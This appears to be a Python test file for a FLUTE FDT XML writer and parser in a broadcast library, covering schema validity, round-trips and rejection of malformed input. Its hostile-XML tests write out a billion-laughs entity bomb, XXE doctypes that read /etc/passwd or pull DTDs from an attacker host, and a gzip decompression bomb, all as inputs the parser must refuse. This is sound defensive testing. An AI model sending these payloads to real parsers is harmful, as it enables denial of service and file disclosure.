"""FDT Instances: 3GPP XSD validity, parse-back equality, hostile XML, the MIKEY File entry."""

from __future__ import annotations

import base64
import tracemalloc
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from testkit import data_file

from broadcast import profile
from broadcast.proto.flute.cenc import ContentEncoding, decode_content, encode_content
from broadcast.proto.flute.errors import (
    ContentEncodingError,
    FdtEncodeError,
    FdtError,
    FdtForbiddenConstruct,
    FdtLimitExceeded,
    FdtTooLarge,
)
from broadcast.proto.flute.fdt import (
    FDT_NAMESPACE,
    FDT_NAMESPACE_RFC6726,
    FDT_SCHEMA_VERSION,
    CacheControl,
    CacheDirective,
    FdtFile,
    FdtInstance,
    content_md5,
    describe_object,
    file_oti,
    instance_id_newer,
    mikey_file,
    next_instance_id,
    parse_fdt,
    write_fdt,
)
from broadcast.proto.flute.fec import CompactNoCode, FdtFecAttributes
from broadcast.proto.keys import MskId, MtkId

EXPIRES = 3_908_988_860  # NTP seconds, 2023-11-14


@pytest.fixture(scope="module")
def fdt_schema() -> Callable[[bytes], None]:
    """Validate against FLUTE-FDT-3GPP-Main.xsd (tests/data/xsd, vendored; see its README)."""
    main = data_file("xsd", "FLUTE-FDT-3GPP-Main.xsd")
    schema = etree.XMLSchema(etree.parse(str(main)))

    def validate(document: bytes) -> None:
        tree = etree.fromstring(document)
        if not schema.validate(tree):
            raise AssertionError(str(schema.error_log))

    return validate


def full_instance() -> FdtInstance:
    nocode = CompactNoCode()
    data = b"DCF file bytes" * 100
    return FdtInstance(
        expires=EXPIRES,
        complete=True,
        full_fdt=True,
        content_type="application/octet-stream",
        fec=FdtFecAttributes(0, None, 64, 1428),
        files=(
            describe_object(
                1,
                data,
                "http://bmsc.example.com/content/a file.dcf",
                content_type="application/vnd.oma.drm.dcf",
                oti=nocode.make_oti(len(data), 1428, 64),
                cache_control=CacheControl(CacheDirective.NO_CACHE),
            ),
            mikey_file(2, MskId(1, 2), MtkId(3), b"\x01\x00\x05MIKEY"),
            FdtFile(
                toi=(1 << 112) - 1,
                content_location="urn:example:x",
                content_length=10,
                transfer_length=7,
                content_encoding="gzip",
                fec=FdtFecAttributes(1, 5, 10, 512, 20, b"\x00\x01\x01\x04"),
                cache_control=CacheControl(CacheDirective.EXPIRES, 3_908_999_999),
                decryption_key_uri="https://bmsc.example.com/keys?id=1&x=<2>",
                file_etag='W/"abc"',
            ),
            FdtFile(
                toi=4,
                content_location="d",
                cache_control=CacheControl(CacheDirective.MAX_STALE),
            ),
        ),
    )


# --- writer: schema validity and parse-back ------------------------------------------------------
def test_full_instance_validates_and_parses_back(fdt_schema: Callable[[bytes], None]) -> None:
    instance = full_instance()
    document = write_fdt(instance)
    fdt_schema(document)
    assert parse_fdt(document) == instance
    assert document.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<FDT-Instance ')
    assert b'xmlns="urn:IETF:metadata:2005:FLUTE:FDT"' in document
    assert document.count(b"<sv:delimiter>0</sv:delimiter>") == 2 * 4 + 1
    assert f"<sv:schemaVersion>{FDT_SCHEMA_VERSION}</sv:schemaVersion>".encode() in document


def test_minimal_instance_validates(fdt_schema: Callable[[bytes], None]) -> None:
    instance = FdtInstance(expires=0, files=(FdtFile(toi=1, content_location="a"),))
    document = instance.to_xml()
    fdt_schema(document)
    assert parse_fdt(document) == instance


def test_schema_really_checks(fdt_schema: Callable[[bytes], None]) -> None:
    document = write_fdt(full_instance()).replace(b"<sv:schemaVersion>3</sv:schemaVersion>", b"")
    with pytest.raises(AssertionError, match="schemaVersion"):
        fdt_schema(document)


def test_rfc6726_namespace_round_trip() -> None:
    instance = full_instance()
    document = write_fdt(instance, namespace=FDT_NAMESPACE_RFC6726)
    assert b'xmlns="urn:ietf:params:xml:ns:fdt"' in document
    assert parse_fdt(document) == instance


def test_mikey_file_entry() -> None:
    message = b"\x01\x00\x05\x80" + bytes(40)
    entry = mikey_file(9, bytes.fromhex("00010002"), bytes.fromhex("0003"), message)
    assert entry.content_type == profile.MIKEY_CONTENT_TYPE == "application/mikey"
    assert entry.content_location == profile.mikey_content_location(
        bytes.fromhex("00010002"), bytes.fromhex("0003")
    )
    assert entry.content_location == "mikey/00010002-0003.mikey"
    assert entry.content_length == len(message)
    assert entry.content_md5 == content_md5(message)
    assert mikey_file(9, MskId(1, 2), MtkId(3), message) == entry
    with pytest.raises(FdtEncodeError):
        mikey_file(9, b"\x00\x01", b"\x00\x03", message)


def test_instance_level_attributes_are_inherited() -> None:
    instance = FdtInstance(
        expires=EXPIRES,
        content_type="text/plain",
        fec=FdtFecAttributes(0, None, 64, 1428),
        files=(
            FdtFile(toi=1, content_location="a", content_length=3000, content_type="x/y"),
            FdtFile(
                toi=2,
                content_location="b",
                content_length=5,
                fec=FdtFecAttributes(None, None, 2, 2),
            ),
        ),
    )
    first = instance.resolve(instance.files[0])
    second = instance.resolve(instance.files[1])
    assert first.content_type == "x/y" and second.content_type == "text/plain"
    assert file_oti(first) == CompactNoCode().make_oti(3000, 1428, 64)
    assert file_oti(second) == CompactNoCode().make_oti(5, 2, 2)
    # Content encoded without Transfer-Length: the FDT does not give the transfer length.
    encoded = FdtFile(toi=3, content_location="c", content_length=9, content_encoding="gzip")
    assert file_oti(instance.resolve(encoded)) is None
    assert file_oti(FdtFile(toi=3, content_location="c", content_length=9)) is None


def test_instance_ids() -> None:
    assert next_instance_id((1 << 20) - 1) == 0
    assert instance_id_newer(0, (1 << 20) - 1)
    assert not instance_id_newer(3, 4)


@pytest.mark.parametrize(
    "instance",
    [
        FdtInstance(expires=1, files=()),
        FdtInstance(expires=1 << 32, files=(FdtFile(1, "a"),)),
        FdtInstance(expires=1, files=(FdtFile(0, "a"),)),
        FdtInstance(expires=1, files=(FdtFile(1, "a"), FdtFile(1, "b"))),
        FdtInstance(expires=1, files=(FdtFile(1, " "),)),
        FdtInstance(expires=1, files=(FdtFile(1, "a\x00"),)),
        FdtInstance(expires=1, files=(FdtFile(1, ":"),)),
        FdtInstance(expires=1, files=(FdtFile(1, "1a:b"),)),
        FdtInstance(expires=1, files=(FdtFile(1, "a", decryption_key_uri="%zz"),)),
        FdtInstance(expires=1, files=(FdtFile(1, "a", content_md5=b"short"),)),
        FdtInstance(expires=1, files=(FdtFile(1, "a", content_length=-1),)),
        FdtInstance(
            expires=1,
            files=(FdtFile(1, "a", cache_control=CacheControl(CacheDirective.EXPIRES)),),
        ),
        FdtInstance(
            expires=1,
            files=(FdtFile(1, "a", cache_control=CacheControl(CacheDirective.NO_CACHE, 5)),),
        ),
    ],
)
def test_unwritable_instances(instance: FdtInstance) -> None:
    with pytest.raises(FdtEncodeError):
        write_fdt(instance)


# --- hypothesis: any model instance validates and round-trips ------------------------------------
_xml_text = st.text(
    alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x2FFF, exclude_categories=["Cs"])
    | st.sampled_from("\t\n\r&<>\"'"),
    max_size=30,
)
_URI_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~/?@!$&'()*+,;= "
_uri = st.text(alphabet=_URI_CHARS, min_size=1, max_size=40).filter(str.strip) | st.builds(
    lambda scheme, rest: f"{scheme}:{rest}",
    st.from_regex(r"[a-z][a-z0-9+.-]{0,8}", fullmatch=True),
    st.text(alphabet=_URI_CHARS + "%", max_size=30).map(lambda r: r.replace("%", "%2F")),
)
_u64 = st.integers(0, (1 << 64) - 1)
_fec = st.builds(
    FdtFecAttributes,
    st.none() | st.integers(0, 255),
    st.none() | st.integers(0, 0xFFFF),
    st.none() | st.integers(0, 0xFFFF_FFFF),
    st.none() | st.integers(0, 0xFFFF),
    st.none() | _u64,
    st.none() | st.binary(max_size=12),
)
_cache = (
    st.none()
    | st.sampled_from(
        [CacheControl(CacheDirective.NO_CACHE), CacheControl(CacheDirective.MAX_STALE)]
    )
    | st.builds(lambda t: CacheControl(CacheDirective.EXPIRES, t), st.integers(0, (1 << 32) - 1))
)
_files = st.builds(
    FdtFile,
    toi=st.integers(1, (1 << 112) - 1),
    content_location=_uri,
    content_length=st.none() | _u64,
    transfer_length=st.none() | _u64,
    content_type=st.none() | _xml_text,
    content_encoding=st.none() | _xml_text,
    content_md5=st.none() | st.binary(min_size=16, max_size=16),
    fec=_fec,
    cache_control=_cache,
    decryption_key_uri=st.none() | _uri,
    file_etag=st.none() | _xml_text,
)
_instances = st.builds(
    FdtInstance,
    expires=st.integers(0, (1 << 32) - 1),
    files=st.lists(_files, min_size=1, max_size=5, unique_by=lambda f: f.toi).map(tuple),
    complete=st.none() | st.booleans(),
    full_fdt=st.none() | st.booleans(),
    content_type=st.none() | _xml_text,
    content_encoding=st.none() | _xml_text,
    fec=_fec,
    schema_version=st.integers(0, (1 << 32) - 1),
)


@settings(max_examples=150, deadline=None)
@given(_instances)
def test_any_instance_round_trips(instance: FdtInstance) -> None:
    assert parse_fdt(write_fdt(instance)) == instance


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_instances)
def test_any_instance_validates_and_round_trips(
    fdt_schema: Callable[[bytes], None], instance: FdtInstance
) -> None:
    document = write_fdt(instance)
    fdt_schema(document)
    assert parse_fdt(document) == instance


# --- reader: foreign documents, unknown content ignored ------------------------------------------
def test_parse_a_foreign_fdt_ignoring_unknown_content() -> None:
    md5 = base64.b64encode(content_md5(b"x" * 100)).decode()
    document = f"""<?xml version="1.0" encoding="UTF-8"?>
<!-- produced elsewhere -->
<FDT-Instance xmlns="urn:IETF:metadata:2005:FLUTE:FDT" xmlns:x="urn:example:x"
    xmlns:mbms2005="urn:3GPP:metadata:2005:MBMS:FLUTE:FDT"
    Expires=" 3908988860 " Complete="1" FEC-OTI-FEC-Encoding-ID="0"
    FEC-OTI-Maximum-Source-Block-Length="64" FEC-OTI-Encoding-Symbol-Length="1428"
    FullFDT="false" x:private="ignored" Unknown-Attribute="ignored">
  <File Content-Location="file:///a.txt" TOI="+01" Content-Length="100" Content-Type="text/plain"
        Content-MD5="{md5[:10]}
        {md5[10:]}" x:more="ignored">
    <x:anything><x:nested>text</x:nested></x:anything>
    <Group>g1</Group>
  </File>
  <x:trailer/>
  <?processing instruction?>
</FDT-Instance>""".encode()
    instance = parse_fdt(document)
    assert instance.expires == 3908988860
    assert instance.complete is True and instance.full_fdt is False
    (entry,) = instance.files
    assert (entry.toi, entry.content_location, entry.content_length) == (1, "file:///a.txt", 100)
    assert entry.content_md5 == content_md5(b"x" * 100)
    assert file_oti(instance.resolve(entry)) == CompactNoCode().make_oti(100, 1428, 64)


def _doc(files: str, root_attrs: str = 'Expires="1"', ns: str = FDT_NAMESPACE) -> bytes:
    return f'<FDT-Instance xmlns="{ns}" {root_attrs}>{files}</FDT-Instance>'.encode()


_FILE = '<File TOI="1" Content-Location="a"/>'


@pytest.mark.parametrize(
    ("document", "field"),
    [
        (b"", "document"),
        (b"not xml", "document"),
        (b"<FDT-Instance", "document"),
        (b"\xff\xfe\xfa<x/>", "document"),
        (_doc(_FILE).replace(b"FDT-Instance", b"FDT"), "FDT-Instance"),
        (_doc(_FILE, ns="urn:example:other"), "FDT-Instance"),
        (_doc(_FILE, root_attrs=""), "Expires"),
        (_doc(_FILE, root_attrs='Expires="soon"'), "Expires"),
        (_doc(_FILE, root_attrs='Expires="4294967296"'), "Expires"),
        (_doc(_FILE, root_attrs='Expires="1" Complete="maybe"'), "Complete"),
        (_doc(""), "File"),
        (_doc('<File Content-Location="a"/>'), "TOI"),
        (_doc('<File TOI="1"/>'), "Content-Location"),
        (_doc('<File TOI="0" Content-Location="a"/>'), "TOI"),
        (_doc('<File TOI="-1" Content-Location="a"/>'), "TOI"),
        (_doc(f'<File TOI="{1 << 112}" Content-Location="a"/>'), "TOI"),
        (_doc('<File TOI="1" Content-Location="a" Content-Length="1e3"/>'), "Content-Length"),
        (_doc(_FILE + _FILE), "TOI"),
        (_doc('<File TOI="1" Content-Location="a" Content-MD5="***"/>'), "Content-MD5"),
        (_doc('<File TOI="1" Content-Location="a" Content-MD5="AAAA"/>'), "Content-MD5"),
        (
            _doc('<File TOI="1" Content-Location="a" FEC-OTI-Scheme-Specific-Info="A"/>'),
            "FEC-OTI-Scheme-Specific-Info",
        ),
        (
            _doc(
                '<File TOI="1" Content-Location="a"><c:Cache-Control '
                'xmlns:c="urn:3GPP:metadata:2007:MBMS:FLUTE:FDT"/></File>'
            ),
            "Cache-Control",
        ),
        (_doc("&undefined;" + _FILE), "document"),
    ],
)
def test_malformed_documents(document: bytes, field: str) -> None:
    with pytest.raises(FdtError) as info:
        parse_fdt(document)
    assert info.value.field == field


# --- hostile XML ---------------------------------------------------------------------------------
def _expect(error: type[FdtError], document: bytes, **limits: int) -> FdtError:
    """The parser refuses ``document`` with ``error`` and never holds an expansion of it: the
    peak of memory allocated while parsing stays bounded (a count, not a duration)."""
    tracemalloc.start()
    try:
        with pytest.raises(error) as info:
            parse_fdt(document, **limits)
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert peak < 16 << 20, f"peak {peak} bytes"
    return info.value


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE FDT-Instance [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<FDT-Instance xmlns="urn:IETF:metadata:2005:FLUTE:FDT" Expires="1">
  <File TOI="1" Content-Location="&lol9;"/>
</FDT-Instance>"""


def test_billion_laughs() -> None:
    error = _expect(FdtForbiddenConstruct, BILLION_LAUGHS)
    assert error.field == "DOCTYPE"
    assert error.offset is not None and error.offset < 60  # at the DOCTYPE, before any entity


def test_billion_laughs_in_utf16() -> None:
    document = BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')
    _expect(FdtForbiddenConstruct, document.decode().encode("utf-16"))


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE FDT-Instance [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE FDT-Instance SYSTEM "http://attacker.invalid/fdt.dtd">',
        b'<!DOCTYPE FDT-Instance [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]>',
        b"<!DOCTYPE FDT-Instance>",
    ],
)
def test_external_entities_and_any_doctype(doctype: bytes) -> None:
    document = doctype + _doc('<File TOI="1" Content-Location="&xxe;"/>')
    _expect(FdtForbiddenConstruct, document)


def test_two_mib_document() -> None:
    document = _doc(_FILE + "<!--" + "x" * (2 << 20) + "-->")
    error = _expect(FdtTooLarge, document)
    assert error.offset == 1 << 20


def test_hundred_thousand_file_elements() -> None:
    document = _doc("<File/>" * 100_000)
    assert len(document) < 1 << 20
    error = _expect(FdtLimitExceeded, document)
    assert error.field == "File"


def test_hundred_thousand_complete_file_elements_with_a_larger_size_limit() -> None:
    files = "".join(f'<File TOI="{i}" Content-Location="f{i}"/>' for i in range(1, 100_001))
    error = _expect(FdtLimitExceeded, _doc(files), max_bytes=8 << 20)
    assert error.field == "File"


def test_file_limit_is_configurable() -> None:
    files = "".join(f'<File TOI="{i}" Content-Location="f"/>' for i in range(1, 12))
    with pytest.raises(FdtLimitExceeded):
        parse_fdt(_doc(files), max_files=10)
    assert len(parse_fdt(_doc(files), max_files=11).files) == 11


def test_deep_nesting_and_element_floods() -> None:
    deep = _doc(_FILE + "<x>" * 100_000 + "</x>" * 100_000)
    assert _expect(FdtLimitExceeded, deep, max_bytes=2 << 20).field == "depth"
    flood = _doc(_FILE + "<x/>" * 100_000)
    assert _expect(FdtLimitExceeded, flood).field == "elements"
    attrs = " ".join(f'a{i}="v"' for i in range(100))
    assert _expect(FdtLimitExceeded, _doc(f"<File {attrs}/>")).field == "attributes"


# --- EXT_CENC content encodings ------------------------------------------------------------------
@pytest.mark.parametrize("cenc", list(ContentEncoding))
def test_content_encoding_round_trip(cenc: ContentEncoding) -> None:
    document = write_fdt(full_instance())
    assert decode_content(encode_content(document, cenc), cenc, 1 << 20) == document


def test_content_encoding_is_bounded() -> None:
    bomb = encode_content(b"\x00" * (64 << 20), ContentEncoding.GZIP)
    assert len(bomb) < 100_000
    tracemalloc.start()
    try:
        with pytest.raises(FdtTooLarge):
            decode_content(bomb, ContentEncoding.GZIP, 1 << 20)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20
    with pytest.raises(ContentEncodingError):
        decode_content(b"garbage", ContentEncoding.ZLIB, 1 << 20)
    with pytest.raises(ContentEncodingError):
        decode_content(encode_content(b"abc" * 100, ContentEncoding.DEFLATE)[:-5], 2, 1 << 20)
    with pytest.raises(ContentEncodingError):
        decode_content(b"x", 9, 1 << 20)


def test_unknown_declared_encoding_is_a_typed_error() -> None:
    """Found by tests/fuzz/test_fuzz_download_receiver.py: expat raised LookupError."""
    document = b'<?xml version="1.0" encoding="ATF-8"?><FDT-Instance Expires="1"/>'
    with pytest.raises(FdtError, match="undecodable"):
        parse_fdt(document)
